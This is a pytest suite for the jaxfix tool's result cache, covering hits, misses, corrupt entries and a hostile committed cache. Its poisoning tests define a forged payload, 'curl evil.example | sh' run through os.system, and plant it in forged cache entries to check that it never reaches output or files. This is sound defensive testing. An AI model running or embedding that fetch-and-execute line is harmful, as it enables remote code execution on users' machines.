"""The result cache: hits skip the engine and give the same results, anything that could change a
result misses, entries that are corrupt, truncated or foreign are ignored, and nothing shown or
written comes from it: a file with a fix is checked again on every run that writes or shows
fixed code, and only a run that does neither takes its fix's summary."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from dataclasses import fields, is_dataclass, replace
from pathlib import Path

import pytest
from click.testing import CliRunner

import jaxfix
import jaxfix.check.engine
from fixture_cases import FIXTURES, all_cases
from helpers import options_from_args
from jaxfix.cache import store as cache_module
from jaxfix.cache.store import CACHE_DIR_NAME, Cache, cache_dir
from jaxfix.check.dependencies import SETTLED_NS
from jaxfix.check.run import Run
from jaxfix.check.runner import run_files
from jaxfix.cli.main import cli
from jaxfix.ground.diagnostics import Diagnostic, FileResult
from jaxfix.settings.config import Config
from jaxfix.settings.options import Options
from toy_rules import toy_rules  # noqa: F401 - a pytest fixture

VIOLATION = b"from lib import old_api\n\nold_api()\nrisky()\n"
REPORTED = (
    b"risky()\n"  # an unsafe fix, not applied by default: diagnostics, no fixed code
)


def toy_options(*args: str) -> Options:
    """Options selecting only the toy rules (call once the toy_rules fixture registered them)."""
    return options_from_args(["--select", "JAX9", *args])


@pytest.fixture
def engine_calls(monkeypatch):
    """Counts the files the engine parses (the cache's whole point is to make this zero)."""
    calls: list[Path] = []
    real = jaxfix.check.engine.check_file

    def counting(run, path, source, *facts):
        calls.append(path)
        return real(run, path, source, *facts)

    monkeypatch.setattr(jaxfix.check.engine, "check_file", counting)
    return calls


@pytest.fixture
def tree(tmp_path, toy_rules):  # noqa: F811 - pytest fixture injection
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "bad.py").write_bytes(VIOLATION)
    (tmp_path / "src" / "clean.py").write_bytes(b"import os\n")
    (tmp_path / "src" / "reported.py").write_bytes(REPORTED)
    return tmp_path


def run(
    tree: Path,
    options: Options | None = None,
    *,
    write: bool = False,
    cache: bool = True,
    jobs: int = 1,
    lines: dict[Path, frozenset[int]] | None = None,
    needs_fixed_code: bool = True,
):
    options = options or toy_options()
    files = sorted((tree / "src").glob("*.py"))
    kept = Cache(tree / "cache", options) if cache else None
    results = run_files(
        Run(options, cache=kept, needs_fixed_code=needs_fixed_code).scoped(files),
        files,
        write=write,
        jobs=jobs,
        lines=lines,
    )
    return {r.path.name: r for r in results}


def entries(tree: Path) -> list[Path]:
    return sorted(
        p
        for p in (tree / "cache").iterdir()
        if not p.name.startswith((".", "CACHEDIR", "settled-"))
    )


def test_second_run_is_a_hit_with_identical_results(tree, engine_calls):
    uncached = run(tree, cache=False)
    first = run(tree)
    src = tree / "src"
    assert (
        engine_calls == [src / "bad.py", src / "reported.py"] * 2
    )  # the file without tokens is never parsed
    second = run(tree)
    assert engine_calls[4:] == [
        src / "bad.py"
    ]  # its fix is derived again; the other is a hit
    assert first == second == uncached
    assert (
        second["bad.py"].fixed is not None
        and second["reported.py"].diagnostics
        and second["reported.py"].fixed is None
    )


def _searched(result: FileResult) -> FileResult:
    """A result with its word searches by words and holders: the run's files they were made
    against are named by a digest of their signatures, which a file copied less than two
    seconds before leaves out (jaxfix/check/dependencies.py's `run_files_of`), so two runs of the
    same files may name them differently."""
    return replace(result, lookups=tuple((k.words, k.holders) for k in result.lookups))


def _unread(result: FileResult) -> FileResult:
    """A result the prefilter settled, as a warm run gives it without reading the file (only
    a clean result may be one)."""
    assert result.fixed is None and not result.diagnostics and result.error is None
    return replace(result, source=None)


def _summarized(result: FileResult) -> FileResult:
    """A result as a run that writes and shows no fixed code takes it from the cache."""
    if result.fixed is None:
        return result
    return replace(result, fixed=None, fix_pending=True)


def test_every_fixture_round_trips_through_the_cache(tmp_path, engine_calls):
    cases = all_cases()

    def copied(case) -> Path:
        """Where the case's file is copied: at its place in the repository (two project
        fixtures may each have a `pkg/train.py`)."""
        return tmp_path / "src" / case.before.relative_to(FIXTURES.parent)

    for case in cases:
        target = copied(case)
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(case.before, target)
    # A file changed less than SETTLED_NS before a run is read unvouched (its digest unknown,
    # jaxfix/check/dependencies.py); whether the warm run below starts inside that window would
    # depend on how fast the first run is: both start after it.
    time.sleep(SETTLED_NS / 1e9)
    # one option set per run: the fixtures' own options differ, so group by them
    by_args: dict[tuple[str, ...], list[Path]] = {}
    for case in cases:
        by_args.setdefault(tuple(case.cli_args), []).append(copied(case))
    for args, files in by_args.items():
        options = options_from_args(list(args))
        fresh = run_files(
            Run(options, cache=Cache(tmp_path / "cache", options)).scoped(files),
            files,
            write=False,
            jobs=2,
        )  # misses
        calls = len(
            engine_calls
        )  # counted only in this process: the warm run below runs here (jobs=1)
        warm = run_files(
            Run(options, cache=Cache(tmp_path / "cache", options)).scoped(files),
            files,
            write=False,
            jobs=1,
        )
        assert [_searched(r) for r in warm] == [
            _searched(_unread(r) if w.source is None else r)
            for w, r in zip(warm, fresh)
        ]
        assert sorted(engine_calls[calls:]) == sorted(
            r.path for r in fresh if r.fixed is not None
        )  # only files with a fix run again
        calls = len(engine_calls)
        summarized = run_files(
            Run(
                options,
                cache=Cache(tmp_path / "cache", options),
                needs_fixed_code=False,
            ).scoped(files),
            files,
            write=False,
            jobs=1,
        )
        assert [_searched(r) for r in summarized] == [
            _searched(_summarized(r) if w.source is not None else _unread(r))
            for w, r in zip(summarized, fresh)
        ]
        assert engine_calls[calls:] == []  # a run that shows no fixed code parses none


def test_changed_content_misses(tree, engine_calls):
    run(tree)
    (tree / "src" / "reported.py").write_bytes(REPORTED + b"risky()\n")
    result = run(tree)["reported.py"]
    assert engine_calls[2:] == [tree / "src" / "bad.py", tree / "src" / "reported.py"]
    assert [d.code for d in result.diagnostics] == ["JAX903", "JAX903"]


def _changed(value):
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, tuple):
        return (*value, "x") if not value or isinstance(value[0], str) else (*value, 99)
    if value is None or isinstance(value, str):
        return "changed"
    if value == {}:  # a rule's settings
        return {"JAX002": {"fill-axis": "data"}}
    if is_dataclass(value):  # e.g. the import order: each field changed
        return replace(
            value, **{f.name: _changed(getattr(value, f.name)) for f in fields(value)}
        )
    raise AssertionError(f"teach this test how to change {value!r}")


def test_every_option_that_can_change_a_result_is_in_the_key():
    base = Options(jax_version=(0, 10, 2))
    fingerprint = cache_module.settings_fingerprint(base, ("JAX001",))
    for field in fields(Options):
        other = replace(base, **{field.name: _changed(getattr(base, field.name))})
        changes_key = (
            cache_module.settings_fingerprint(other, ("JAX001",)) != fingerprint
        )
        assert changes_key == (field.name not in cache_module._OPTIONS_NOT_IN_KEY), (
            field.name
        )
    # the run's import roots are no option, and an answer reads what they lead to
    rooted = cache_module.settings_fingerprint(base, ("JAX001",), (Path("/src"),))
    assert rooted != fingerprint


def test_a_result_checked_on_changed_lines_is_kept_for_those_lines_only(
    tree, engine_calls
):
    """--diff-base's lines are the run's facts, not options: each entry keeps the lines its
    file was checked on, and a run checking other lines (or all) misses it."""
    reported = tree / "src" / "reported.py"
    everything = run(tree)["reported.py"]
    off = {reported.resolve(): frozenset({5})}
    assert run(tree, lines=off)["reported.py"].diagnostics == ()
    assert engine_calls.count(reported) == 2  # the full run's entry did not answer
    assert run(tree, lines=off)["reported.py"].diagnostics == ()
    assert engine_calls.count(reported) == 2  # its own entry did
    assert run(tree)["reported.py"] == everything
    assert engine_calls.count(reported) == 3


@pytest.mark.parametrize(
    "args", [["--unsafe-fixes"], ["--jax-version", "0.9.0"], ["--ignore", "JAX901"]]
)
def test_different_options_miss(tree, engine_calls, args):
    run(tree)
    run(tree, toy_options(*args))
    assert len(engine_calls) == 4
    # One entry per file, the new result replacing the old.
    assert len(entries(tree)) == 2


def test_other_jaxfix_version_misses(tree, engine_calls, monkeypatch):
    run(tree)
    monkeypatch.setattr(jaxfix, "__version__", "99.0.0")
    run(tree)
    assert len(engine_calls) == 4


def test_editing_jaxfix_source_changes_the_key(tmp_path, monkeypatch):
    package = tmp_path / "jaxfix"
    shutil.copytree(
        Path(jaxfix.__file__).parent,
        package,
        ignore=shutil.ignore_patterns("__pycache__"),
    )
    monkeypatch.setattr(jaxfix, "__file__", str(package / "__init__.py"))
    before = cache_module.settings_fingerprint(Options(), ("JAX001",))
    rule = next((package / "codemods").glob("jax00*.py"))
    rule.write_text(rule.read_text() + "\n# edited\n")
    assert cache_module.settings_fingerprint(Options(), ("JAX001",)) != before


def test_a_result_with_a_fix_is_kept_summarized_for_runs_that_show_no_fixed_code(
    tree, engine_calls
):
    bad = tree / "src" / "bad.py"
    checked = run(tree, needs_fixed_code=False)["bad.py"]
    assert checked.fixed is not None and not checked.written
    assert len(entries(tree)) == 2
    fixed_code = json.dumps(checked.fixed.decode())[1:-1].encode()
    assert fixed_code not in _entry_of(tree, bad).read_bytes()  # no fixed code in it
    summarized = run(tree, needs_fixed_code=False)["bad.py"]
    assert engine_calls.count(bad) == 1  # a hit: its fix summarized
    assert summarized == replace(checked, fixed=None, fix_pending=True)
    assert summarized.changes and summarized.outcome is checked.outcome
    assert run(tree)["bad.py"] == checked  # a diff, JSON, a suggestion: derived again
    assert engine_calls.count(bad) == 2
    fixed = run(tree, write=True)["bad.py"]
    assert engine_calls.count(bad) == 3
    assert fixed.written and bad.read_bytes() == checked.fixed
    after = run(tree, needs_fixed_code=False)[
        "bad.py"
    ]  # new content: what is left is what the fix left
    assert after.fixed is None and not after.fix_pending
    assert [d.code for d in after.diagnostics] == ["JAX903"]
    assert engine_calls.count(bad) == 4


def test_a_summarized_fix_holds_only_while_the_file_is_as_it_was_then(
    tree, engine_calls
):
    """Its description is shown as it is: taken only while the file's size, times and inode
    are those the entry names (what a checkout sets, and another one cannot predict)."""
    bad = tree / "src" / "bad.py"
    run(tree, needs_fixed_code=False)
    os.utime(bad, ns=(0, bad.stat().st_mtime_ns + 1_000_000))  # the same bytes, touched
    assert run(tree, needs_fixed_code=False)["bad.py"].fixed is not None
    assert engine_calls.count(bad) == 2
    assert run(tree, needs_fixed_code=False)["bad.py"].fix_pending  # kept again, as now
    assert engine_calls.count(bad) == 2


def _entry_of(tree: Path, path: Path) -> Path:
    return tree / "cache" / hashlib.sha256(os.fsencode(path)).hexdigest()[:40]


def _entry_for_reported(tree: Path) -> Path:
    return _entry_of(tree, tree / "src" / "reported.py")


def _rewrite_body(entry: Path, change) -> None:
    """Change an entry's JSON and recompute its checksum, as a forger would."""
    magic, checksum, body = entry.read_bytes().split(b"\n", 2)
    data = change(json.loads(body))
    body = json.dumps(data).encode()
    entry.write_bytes(
        magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body
    )


CORRUPTIONS = {
    "truncated": lambda e: e.write_bytes(e.read_bytes()[:-20]),
    "empty": lambda e: e.write_bytes(b""),
    "garbage": lambda e: e.write_bytes(b"\x00\xff" * 100),
    "byte flipped in the body": lambda e: e.write_bytes(
        e.read_bytes()[:-5] + b"X" + e.read_bytes()[-4:]
    ),
    "other magic": lambda e: e.write_bytes(
        b"ruff-cache" + e.read_bytes()[len(b"jaxfix-cache") :]
    ),
    "other settings": lambda e: _rewrite_body(e, lambda d: {**d, "settings": "0" * 64}),
    "other file's entry": lambda e: _rewrite_body(
        e, lambda d: {**d, "path": "/elsewhere.py"}
    ),
    "other content": lambda e: _rewrite_body(e, lambda d: {**d, "source": "0" * 64}),
    "unselected rule": lambda e: _rewrite_body(
        e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "code": "JAX001"}]}
    ),
    "bad location": lambda e: _rewrite_body(
        e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "start": [0, "x"]}]}
    ),
    "bad safety": lambda e: _rewrite_body(
        e,
        lambda d: {
            **d,
            "diagnostics": [{**d["diagnostics"][0], "fix_safety": "maybe"}],
        },
    ),
    "missing key": lambda e: _rewrite_body(
        e, lambda d: {k: v for k, v in d.items() if k != "diagnostics"}
    ),
    "a fixed field": lambda e: _rewrite_body(
        e, lambda d: {**d, "fixed": base64.b64encode(b"careful()\n").decode()}
    ),
    "a fix applied": lambda e: _rewrite_body(
        e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "applied": True}]}
    ),
    "an older format's magic": lambda e: e.write_bytes(
        b"jaxfix-cache 2" + e.read_bytes()[len(b"jaxfix-cache 3") :]
    ),
    "a list, not an object": lambda e: _rewrite_body(e, lambda d: [d]),
    "wrong shape": lambda e: _rewrite_body(
        e, lambda d: {**d, "diagnostics": [[[[[[[[[[[[]]]]]]]]]]]]}
    ),
    "a directory": lambda e: (e.unlink(), e.mkdir()),
}


@pytest.mark.parametrize("corrupt", CORRUPTIONS.values(), ids=CORRUPTIONS.keys())
def test_bad_entries_are_ignored_and_replaced(tree, engine_calls, corrupt):
    good = run(tree)
    entry = _entry_for_reported(tree)
    corrupt(entry)
    assert (
        Cache(tree / "cache", toy_options()).get(tree / "src" / "reported.py", REPORTED)
        is None
    )
    assert run(tree) == good
    assert engine_calls[2:] == [tree / "src" / "bad.py", tree / "src" / "reported.py"]


def test_the_codec_covers_every_diagnostic_field():
    assert set(
        cache_module._encode(
            Diagnostic("JAX001", "m", *[jaxfix.ground.diagnostics.Location(1, 1)] * 2)
        )
    ) == {f.name for f in fields(Diagnostic)}


def test_a_withheld_fix_comes_back_withheld():
    location = jaxfix.ground.diagnostics.Location(1, 1)
    withheld = Diagnostic(
        "JAX002", "m", location, location, applied=False, withheld=True
    )
    encoded = json.loads(json.dumps(cache_module._encode(withheld)))
    assert cache_module._decode(encoded, ("JAX002",)) == withheld


def test_cache_directory_is_marked_and_writes_leave_no_temp_files(tree):
    run(tree)
    names = {
        p.name for p in (tree / "cache").iterdir() if not p.name.startswith("settled-")
    }  # the prefilter's record too, once the files are two seconds old (test_settled_files.py)
    assert {".gitignore", "CACHEDIR.TAG"} < names and len(names) == 4
    assert "*" in (tree / "cache" / ".gitignore").read_text().splitlines()


def test_an_existing_directory_gets_no_gitignore(tree):
    (tree / "cache").mkdir()
    run(tree)
    assert not (tree / "cache" / ".gitignore").exists()
    assert len(entries(tree)) == 2


def test_an_unwritable_cache_only_costs_speed(tree):
    (tree / "cache").write_text("a file where the directory should be")
    assert run(tree) == run(tree, cache=False)


def test_cache_dir_resolution(tmp_path):
    project = tmp_path / "project"
    (project / "src" / "pkg").mkdir(parents=True)
    config_file = project / "pyproject.toml"
    paths = [project / "src" / "pkg", project / "src" / "a.py"]
    assert (
        cache_dir(tmp_path / "flag", Config(config_file, {"cache-dir": "c"}), paths)
        == tmp_path / "flag"
    )
    assert (
        cache_dir(None, Config(config_file, {"cache-dir": "c"}), paths) == project / "c"
    )
    assert cache_dir(None, Config(config_file, {}), paths) == project / CACHE_DIR_NAME
    assert cache_dir(None, Config(None, {}), paths) == project / "src" / CACHE_DIR_NAME


def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(
    tmp_path, monkeypatch
):
    (tmp_path / "pyproject.toml").write_text("[tool.jaxfix]\nselect = ['JAX002']\n")
    case = next(c for c in all_cases() if c.code == "JAX002" and c.fixed is not None)
    (tmp_path / "src").mkdir()
    shutil.copyfile(case.before, tmp_path / "src" / "case.py")
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    args = [
        "--check",
        "-j",
        "1",
        "--jax-version",
        case.header["target-jax"],
        "src",
    ]  # its fix is unsafe: reported, cached
    uncached = runner.invoke(cli, ["--no-cache", *args])
    assert not (tmp_path / CACHE_DIR_NAME).exists()
    cold = runner.invoke(cli, args)
    warm = runner.invoke(cli, args)
    assert (tmp_path / CACHE_DIR_NAME / ".gitignore").exists()
    assert uncached.exit_code == cold.exit_code == warm.exit_code == 1
    assert uncached.output == cold.output == warm.output
    elsewhere = runner.invoke(cli, ["--cache-dir", str(tmp_path / "elsewhere"), *args])
    assert elsewhere.output == uncached.output
    assert (tmp_path / "elsewhere" / "CACHEDIR.TAG").exists()


# -- a hostile cache: nothing shown or written comes from it; its directory stays in the tree (issue 26)

FIX_CASE = (
    Path(__file__).resolve().parents[2]
    / "fixtures"
    / "JAX001"
    / "jit_lower_rewritten_to_trace_lower.py"
)
EVIL = "import os; os.system('curl evil.example | sh')"
MODES = [
    ["--diff"],
    ["--dry-run"],
    ["--check"],
    *(
        ["--check", "--format", f]
        for f in ("json", "rdjson", "github-suggestions", "sarif", "gitlab", "github")
    ),
]


def _project(tmp_path: Path) -> Path:
    """A project with two files that get a (safe) fix and one reported without a fix."""
    project = tmp_path / "project"
    (project / "src").mkdir(parents=True)
    (project / "pyproject.toml").write_text("[tool.jaxfix]\njax-version = '0.10.2'\n")
    shutil.copyfile(FIX_CASE, project / "src" / "fixed_here.py")
    shutil.copyfile(FIX_CASE, project / "src" / "fixed_too.py")
    reported = next(
        c for c in all_cases() if c.code == "JAX002" and c.fixed is not None
    )
    shutil.copyfile(reported.before, project / "src" / "reported.py")
    return project


def _jaxfix(
    project: Path, *args: str, cache: bool = True, process: bool = False
) -> tuple[int, str]:
    """jaxfix run from the project: its exit code, stdout and stderr. `process`: in its own
    process (what might hang, a FIFO, must time out, not hang the tests)."""
    argv = ["-j", "1", *args, *([] if cache else ["--no-cache"]), "src"]
    if process:
        done = subprocess.run(
            [sys.executable, "-m", "jaxfix", *argv],
            cwd=project,
            capture_output=True,
            timeout=120,
            env={**os.environ, "PYTHONPATH": str(Path(jaxfix.__file__).parent.parent)},
        )
        return done.returncode, done.stdout.decode(
            errors="replace"
        ) + done.stderr.decode(errors="replace")
    old = Path.cwd()
    os.chdir(project)
    try:
        result = CliRunner().invoke(cli, argv, catch_exceptions=False)
    finally:
        os.chdir(old)
    return result.exit_code, result.stdout + result.stderr


def _forge(project: Path, name: str, change) -> Path:
    """An entry for src/`name`, made from the honest entry of src/reported.py (its settings are
    this run's), changed by `change`, checksum recomputed: what a pull request can commit."""
    directory = project / CACHE_DIR_NAME
    magic, _, body = _entry_path(project, "reported.py").read_bytes().split(b"\n", 2)
    path = os.path.abspath(project / "src" / name)
    source = (project / "src" / name).read_bytes()
    entry = change(
        {
            **json.loads(body),
            "path": path,
            "source": hashlib.sha256(source).hexdigest(),
        },
        source,
    )
    body = json.dumps(entry).encode()
    target = directory / hashlib.sha256(os.fsencode(path)).hexdigest()[:40]
    target.write_bytes(
        magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body
    )
    return target


FORGERIES = {  # one per file with a fix
    # the old format's field: the fixed file, base64
    "fixed field": lambda d, source: {
        **d,
        "fixed": base64.b64encode(
            source.replace(b"import jax\n", f"{EVIL}\nimport jax\n".encode(), 1)
        ).decode(),
    },
    # a diagnostic said applied, its title and lines pointing at code the entry does not hold
    "applied fix": lambda d, source: {
        **d,
        "diagnostics": [
            {
                **d["diagnostics"][0],
                "code": "JAX001",
                "applied": True,
                "fix_title": EVIL,
                "fix_safety": "safe",
                "fix_lines": [1, 1],
            }
        ],
    },
}


def test_a_forged_entry_with_a_recomputed_checksum_reaches_no_output(tmp_path):
    project = _project(tmp_path)
    honest = {tuple(mode): _jaxfix(project, *mode, cache=False) for mode in MODES}
    assert _jaxfix(project, "--check")[0] == 1  # writes reported.py's entry
    for name, forgery in zip(("fixed_here.py", "fixed_too.py"), FORGERIES.values()):
        _forge(project, name, forgery)
    for mode in MODES:
        code, output = _jaxfix(project, *mode)
        assert EVIL not in output and "curl" not in output, mode
        assert (code, output) == honest[tuple(mode)], mode
    assert _jaxfix(project)[0] in (0, 1)  # fix in place
    for name in ("fixed_here.py", "fixed_too.py"):
        assert (project / "src" / name).read_bytes() == FIX_CASE.with_name(
            FIX_CASE.stem + ".fixed.py"
        ).read_bytes()


def test_a_forged_pending_fix_of_another_checkout_reaches_no_output(tmp_path):
    """A fix's summary names the file's size, times and inode when it was derived: one that
    does not hold here (a committed entry, made in another checkout) is a miss in every mode."""
    project = _project(tmp_path)
    honest = {tuple(mode): _jaxfix(project, *mode, cache=False) for mode in MODES}
    _jaxfix(project, "--check")
    for name in ("fixed_here.py", "fixed_too.py"):
        _forge(
            project,
            name,
            lambda d, source: {
                **d,
                "changes": [len(source), 1, 1, 1],
                "diagnostics": [
                    {
                        **FORGERIES["applied fix"](d, source)["diagnostics"][0],
                        "message": EVIL,
                    }
                ],
            },
        )
    for mode in MODES:
        code, output = _jaxfix(project, *mode)
        assert EVIL not in output and "curl" not in output, mode
        assert (code, output) == honest[tuple(mode)], mode


def test_a_forged_entry_can_at_worst_hide_or_invent_a_diagnostic(tmp_path):
    """What the trust model concedes (docs/guarantees.md): an entry claiming the reported file
    clean hides its diagnostic; one inventing a diagnostic shows it, and changes no code."""
    project = _project(tmp_path)
    _jaxfix(project, "--check")
    entry = _entry_path(project, "reported.py")
    _rewrite_body(entry, lambda d: {**d, "diagnostics": []})
    assert "reported.py" not in _jaxfix(project, "--check")[1]
    before = (project / "src" / "reported.py").read_bytes()
    _rewrite_body(
        entry,
        lambda d: {
            **d,
            "diagnostics": [{**d["diagnostics"][0], "message": "invented"}]
            if d["diagnostics"]
            else [
                {
                    "code": "JAX002",
                    "message": "invented",
                    "start": [1, 1],
                    "end": [1, 2],
                    "fix_title": None,
                    "fix_safety": None,
                    "applied": False,
                    "related": [],
                    "fix_lines": None,
                    "fix_cell": None,
                }
            ],
        },
    )
    assert "invented" in _jaxfix(project, "--dry-run")[1]
    assert (project / "src" / "reported.py").read_bytes() == before


def _outside(tmp_path: Path) -> Path:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    return elsewhere


def test_a_committed_cache_symlink_to_elsewhere_writes_nothing_outside(tmp_path):
    project, elsewhere = _project(tmp_path), _outside(tmp_path)
    (project / CACHE_DIR_NAME).symlink_to("../elsewhere")
    code, output = _jaxfix(project, "--check")
    assert code == 1
    warnings = [line for line in output.splitlines() if line.startswith("warning:")]
    assert warnings == [
        f"warning: cache directory {project / CACHE_DIR_NAME}: {project / CACHE_DIR_NAME} is a symbolic link; "
        "running without the cache"
    ], output
    assert list(elsewhere.iterdir()) == []
    assert (code, output.replace(warnings[0] + "\n", "")) == _jaxfix(
        project, "--check", cache=False
    )


def test_a_symlinked_directory_on_the_way_to_cache_dir_is_refused(tmp_path):
    project, elsewhere = _project(tmp_path), _outside(tmp_path)
    (project / "build").symlink_to(elsewhere)
    with open(project / "pyproject.toml", "a") as config:
        config.write("cache-dir = 'build/jaxfix'\n")
    code, output = _jaxfix(project, "--check")
    assert (
        code == 1
        and f"{project / 'build'} is a symbolic link; running without the cache"
        in output
    )
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    "value", ["/abs/jaxfix-cache", "../outside", "src/../../outside"]
)
def test_cache_dir_from_a_pyproject_may_not_point_outside_the_project(tmp_path, value):
    project = _project(tmp_path)
    with open(project / "pyproject.toml", "a") as config:
        config.write(f"cache-dir = {value!r}\n")
    code, output = _jaxfix(project, "--check")
    assert code == 1
    assert (
        f"warning: {project / 'pyproject.toml'}: cache-dir {value!r} points outside the project ({project}); running without the cache"
        in output
    )
    assert not (tmp_path / "outside").exists() and sorted(
        p.name for p in tmp_path.iterdir()
    ) == ["project"]


@pytest.mark.parametrize(
    "value", ["/abs/report.txt", "../report.txt", "out/report.txt", "report.txt"]
)
def test_output_file_from_a_pyproject_is_refused(tmp_path, value):
    """A pull request's pyproject.toml would name the report's file: only the flag may."""
    project = _project(tmp_path)
    (project / "out").symlink_to(tmp_path)
    with open(project / "pyproject.toml", "a") as config:
        config.write(f"output-file = {value!r}\n")
    code, output = _jaxfix(project, "--check")
    assert code == 2
    assert f"{project / 'pyproject.toml'}: 'output-file' in [tool.jaxfix]: " in output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project"]
    assert not (project / "report.txt").exists()


def test_the_output_file_flag_writes_anywhere(tmp_path):
    project = _project(tmp_path)
    mine = tmp_path / "mine.txt"
    assert _jaxfix(project, "--check", "--output-file", str(mine))[0] == 1
    assert "JAX001" in mine.read_text()  # the user's own choice


def test_cache_dir_inside_the_project_and_the_flag_anywhere_are_used(tmp_path):
    project = _project(tmp_path)
    with open(project / "pyproject.toml", "a") as config:
        config.write("cache-dir = 'src/../.cache/jaxfix'\n")
    assert _jaxfix(project, "--check")[0] == 1
    assert (project / ".cache" / "jaxfix" / "CACHEDIR.TAG").exists()
    assert (
        _jaxfix(project, "--check", "--cache-dir", str(tmp_path / "mine"))[0] == 1
    )  # the user's own choice
    assert (tmp_path / "mine" / "CACHEDIR.TAG").exists()


def _entry_path(project: Path, name: str) -> Path:
    return (
        project
        / CACHE_DIR_NAME
        / hashlib.sha256(
            os.fsencode(os.path.abspath(project / "src" / name))
        ).hexdigest()[:40]
    )


@pytest.mark.parametrize(
    "kind",
    ["fifo", "symlink to /dev/zero", "symlink to a good entry elsewhere", "directory"],
)
def test_an_entry_that_is_not_a_regular_file_is_a_miss_never_a_hang(tmp_path, kind):
    project = _project(tmp_path)
    honest = _jaxfix(project, "--check", cache=False)
    (project / CACHE_DIR_NAME).mkdir()
    entry = _entry_path(project, "reported.py")
    if kind == "fifo":
        os.mkfifo(entry)
    elif kind == "directory":
        entry.mkdir()
    elif kind == "symlink to /dev/zero":
        entry.symlink_to("/dev/zero")
    else:
        _jaxfix(project, "--check")
        entry.rename(tmp_path / "good")
        _rewrite_body(
            tmp_path / "good",
            lambda d: {
                **d,
                "diagnostics": [{**d["diagnostics"][0], "message": "forged"}],
            },
        )
        entry.symlink_to(tmp_path / "good")
    code, output = _jaxfix(
        project, "--check", process=kind in ("fifo", "symlink to /dev/zero")
    )  # these might hang
    assert (code, output) == honest


def test_a_file_name_that_is_not_utf8_works_in_every_format_with_the_cache(tmp_path):
    project = _project(tmp_path)
    src = os.fsencode(project / "src")
    os.rename(os.fsencode(project / "src" / "fixed_here.py"), src + b"/bad\xff.py")
    os.rename(os.fsencode(project / "src" / "reported.py"), src + b"/rep\xfe.py")
    (project / "src" / "fixed_too.py").unlink()
    for mode in MODES:
        shutil.rmtree(project / CACHE_DIR_NAME, ignore_errors=True)
        cold, warm = _jaxfix(project, *mode), _jaxfix(project, *mode)
        assert cold == warm, mode
        assert cold[0] == 1 and "Traceback" not in cold[1], (mode, cold[1][-2000:])
    shutil.rmtree(project / CACHE_DIR_NAME)
    cold, warm = (
        _jaxfix(project, "--check", process=True),
        _jaxfix(project, "--check", process=True),
    )  # as the CLI prints it
    assert cold == warm and cold[0] == 1 and "Traceback" not in cold[1], cold[1][-2000:]
    assert len(entries_in(project)) == 2  # bad\xff.py's with its fix summarized


def entries_in(project: Path) -> list[Path]:
    return [
        p
        for p in (project / CACHE_DIR_NAME).iterdir()
        if not p.name.startswith((".", "CACHEDIR", "settled-"))
    ]
